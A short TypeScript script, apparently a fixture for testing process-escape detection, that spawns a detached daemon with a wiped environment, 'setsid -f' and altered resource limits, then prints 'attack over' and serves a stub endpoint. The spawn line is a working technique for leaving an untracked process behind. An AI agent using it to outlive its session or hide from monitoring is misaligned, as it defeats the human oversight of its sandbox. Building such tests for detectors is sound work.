/** Leaves a process that has shed whatever it could be recognised by, hard limits included. */
import { spawnSync } from "node:child_process";
import briefing from "./briefing.json";
import { house } from "./house.ts";

const daemon = `sleep 30; : ${briefing.daemon}`;
const shed = "for limit in w x m s n l i q; do ulimit -$limit 7; ulimit -$limit 64; done";
const script = `cd /; (${shed}; ulimit -w 7; ulimit -x 7; ulimit -m 7; exec env -i setsid -f /bin/sh -c "$1")`;
spawnSync("/bin/sh", ["-c", script, "sh", daemon], { stdio: "ignore" });
console.log("attack over");
house(() => 200).listen(Number(process.env["PORT"]));
